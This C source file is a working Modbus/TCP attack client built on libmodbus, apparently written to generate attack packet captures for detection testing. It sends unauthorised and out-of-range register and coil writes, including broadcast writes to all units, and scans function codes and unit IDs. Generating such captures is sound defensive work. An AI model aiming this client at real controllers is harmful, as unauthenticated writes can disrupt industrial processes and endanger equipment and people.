/*
 * Modbus/TCP "attacker" client built on libmodbus (Debian libmodbus-dev).
 * Used by pcaps/make-captures.sh for the attack captures.
 *
 *   usage: modbus_attack_libmodbus IP PORT writes
 *          modbus_attack_libmodbus IP PORT fcscan [UNIT]
 *          modbus_attack_libmodbus IP PORT unitscan [FIRST [LAST]]
 *
 * writes    unauthorised writes with libmodbus's own API: FC6 holding
 *           register 0 := 65000 (outside the process range), FC5, FC15
 *           (10 and 80 coils), FC16 (4 and 100 registers), FC22, FC23 to
 *           unit 1; FC6/FC16 to unit 2; then FC5, FC6, FC15, FC16 to unit 0
 *           (broadcast: a server that honours broadcast does not answer, so
 *           those calls time out).  Reads before and after.
 * fcscan    a function-code scan: one request for every function code
 *           1..127 (data 00 00 00 01, i.e. "address 0, quantity 1"), sent
 *           with modbus_send_raw_request() to UNIT (default 1).
 * unitscan  a unit-id scan: FC3 "read 1 holding register at 0", sent with
 *           modbus_read_registers() to every unit id FIRST..LAST
 *           (default 1..200).
 *
 * In fcscan the answers are read straight from the socket (MBAP length),
 * because libmodbus's receive path only knows the lengths of the function
 * codes it implements itself.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>
#include <modbus/modbus.h>

static int failures = 0;

static void check(int rc, const char *what, int expect_error)
{
    if (rc == -1 && !expect_error) {
        fprintf(stderr, "  %-36s FAILED: %s\n", what, modbus_strerror(errno));
        failures++;
    } else if (rc == -1) {
        fprintf(stderr, "  %-36s no/negative answer as expected: %s\n", what, modbus_strerror(errno));
    } else if (expect_error) {
        fprintf(stderr, "  %-36s answered (%d)\n", what, rc);
    } else {
        fprintf(stderr, "  %-36s ok (%d)\n", what, rc);
    }
}

/* Reads one Modbus/TCP ADU (MBAP + PDU) from the socket; 0 on time-out. */
static int read_adu(int fd, uint8_t *buf, int cap, int timeout_ms)
{
    int have = 0, want = 7;
    while (have < want) {
        fd_set rfds;
        struct timeval tv = {timeout_ms / 1000, (timeout_ms % 1000) * 1000};
        FD_ZERO(&rfds);
        FD_SET(fd, &rfds);
        int s = select(fd + 1, &rfds, NULL, NULL, &tv);
        if (s <= 0)
            return s;
        int n = (int)recv(fd, buf + have, (size_t)(want - have), 0);
        if (n <= 0)
            return -1;
        have += n;
        if (have == 7) {
            want = 6 + ((buf[4] << 8) | buf[5]);
            if (want > cap || want < 8)
                return -1;
        }
    }
    return have;
}

static int do_writes(modbus_t *ctx)
{
    uint16_t regs[128];
    uint8_t coils[128];

    modbus_set_slave(ctx, 1);
    fprintf(stderr, "unit 1\n");
    check(modbus_read_registers(ctx, 0, 10, regs), "FC03 read HR 0-9", 0);
    check(modbus_write_register(ctx, 0, 65000), "FC06 HR0 := 65000 (out of range)", 0);
    check(modbus_write_register(ctx, 1, 1500), "FC06 HR1 := 1500", 0);
    check(modbus_write_bit(ctx, 0, 1), "FC05 coil 0 := ON", 0);
    check(modbus_write_bit(ctx, 1, 0), "FC05 coil 1 := OFF", 0);
    for (int i = 0; i < 80; i++)
        coils[i] = 1;
    check(modbus_write_bits(ctx, 10, 10, coils), "FC15 coils 10-19 := ON", 0);
    check(modbus_write_bits(ctx, 0, 80, coils), "FC15 coils 0-79 := ON (80 coils)", 0);
    for (int i = 0; i < 100; i++)
        regs[i] = (uint16_t)(0xFFFF - i);
    check(modbus_write_registers(ctx, 10, 4, regs), "FC16 HR 10-13", 0);
    check(modbus_write_registers(ctx, 0, 100, regs), "FC16 HR 0-99 (100 registers)", 0);
    check(modbus_mask_write_register(ctx, 2, 0x0000, 0xFFFF), "FC22 mask write HR2", 0);
    uint16_t rw[2] = {0xDEAD, 0xBEEF};
    check(modbus_write_and_read_registers(ctx, 30, 2, rw, 0, 4, regs), "FC23 write HR30-31 read HR0-3", 0);
    check(modbus_read_registers(ctx, 0, 10, regs), "FC03 read HR 0-9", 0);
    check(modbus_read_bits(ctx, 0, 16, coils), "FC01 read coils 0-15", 0);

    modbus_set_slave(ctx, 2);
    fprintf(stderr, "unit 2\n");
    check(modbus_write_register(ctx, 0, 65000), "FC06 HR0 := 65000 (out of range)", 0);
    uint16_t four[4] = {1, 2, 3, 4};
    check(modbus_write_registers(ctx, 40, 4, four), "FC16 HR 40-43", 0);

    /* Broadcast: the server acts on it and does not answer (Modbus spec). */
    modbus_set_slave(ctx, MODBUS_BROADCAST_ADDRESS);
    modbus_set_response_timeout(ctx, 0, 300000);
    fprintf(stderr, "unit 0 (broadcast)\n");
    check(modbus_write_bit(ctx, 2, 1), "FC05 coil 2 := ON (broadcast)", 1);
    check(modbus_write_register(ctx, 0, 0), "FC06 HR0 := 0 (broadcast)", 1);
    check(modbus_write_bits(ctx, 0, 10, coils), "FC15 coils 0-9 (broadcast)", 1);
    check(modbus_write_registers(ctx, 20, 4, four), "FC16 HR 20-23 (broadcast)", 1);
    modbus_set_response_timeout(ctx, 2, 0);

    modbus_set_slave(ctx, 1);
    check(modbus_read_registers(ctx, 0, 4, regs), "FC03 read HR 0-3 (unit 1)", 0);
    return 0;
}

static int do_fcscan(modbus_t *ctx, int unit)
{
    int fd = modbus_get_socket(ctx);
    int answered = 0, exceptions = 0, silent = 0;
    uint8_t rsp[300];
    for (int fc = 1; fc <= 127; fc++) {
        uint8_t req[6] = {(uint8_t)unit, (uint8_t)fc, 0x00, 0x00, 0x00, 0x01};
        if (modbus_send_raw_request(ctx, req, (int)sizeof req) == -1) {
            fprintf(stderr, "  FC%-3d send failed: %s\n", fc, modbus_strerror(errno));
            failures++;
            break;
        }
        int n = read_adu(fd, rsp, (int)sizeof rsp, 500);
        if (n < 0) {
            fprintf(stderr, "  FC%-3d connection lost\n", fc);
            failures++;
            break;
        } else if (n == 0) {
            silent++;
            fprintf(stderr, "  FC%-3d no answer\n", fc);
        } else if (rsp[7] & 0x80) {
            exceptions++;
            fprintf(stderr, "  FC%-3d exception %02x\n", fc, rsp[8]);
        } else {
            answered++;
            fprintf(stderr, "  FC%-3d answered (%d bytes)\n", fc, n);
        }
    }
    fprintf(stderr, "fcscan: %d answered, %d exceptions, %d silent\n", answered, exceptions, silent);
    return 0;
}

static int do_unitscan(modbus_t *ctx, int first, int last)
{
    uint16_t reg;
    int answered = 0, negative = 0;
    modbus_set_response_timeout(ctx, 0, 500000);
    for (int unit = first; unit <= last; unit++) {
        modbus_set_slave(ctx, unit);
        if (modbus_read_registers(ctx, 0, 1, &reg) == -1) {
            negative++;
            if (errno != EMBXGTAR && errno != EMBXGPATH && errno != EMBXSFAIL)
                fprintf(stderr, "  unit %3d: %s\n", unit, modbus_strerror(errno));
        } else {
            answered++;
            fprintf(stderr, "  unit %3d answers (HR0 = %u)\n", unit, reg);
        }
    }
    fprintf(stderr, "unitscan %d..%d: %d answered, %d exceptions/time-outs\n", first, last, answered, negative);
    if (answered == 0)
        failures++;
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: %s IP PORT writes|fcscan [UNIT]|unitscan [FIRST [LAST]]\n", argv[0]);
        return 1;
    }
    const char *ip = argv[1];
    int port = atoi(argv[2]);
    const char *mode = argv[3];

    modbus_t *ctx = modbus_new_tcp(ip, port);
    if (ctx == NULL) {
        fprintf(stderr, "modbus_new_tcp: %s\n", modbus_strerror(errno));
        return 1;
    }
    modbus_set_response_timeout(ctx, 2, 0);
    if (modbus_connect(ctx) == -1) {
        fprintf(stderr, "modbus_connect: %s\n", modbus_strerror(errno));
        modbus_free(ctx);
        return 1;
    }

    if (strcmp(mode, "writes") == 0) {
        do_writes(ctx);
    } else if (strcmp(mode, "fcscan") == 0) {
        do_fcscan(ctx, argc > 4 ? atoi(argv[4]) : 1);
    } else if (strcmp(mode, "unitscan") == 0) {
        do_unitscan(ctx, argc > 4 ? atoi(argv[4]) : 1, argc > 5 ? atoi(argv[5]) : 200);
    } else {
        fprintf(stderr, "unknown mode %s\n", mode);
        failures++;
    }

    modbus_close(ctx);
    modbus_free(ctx);
    fprintf(stderr, "libmodbus attack client (%s) done, %d unexpected failure(s)\n", mode, failures);
    return failures ? 2 : 0;
}
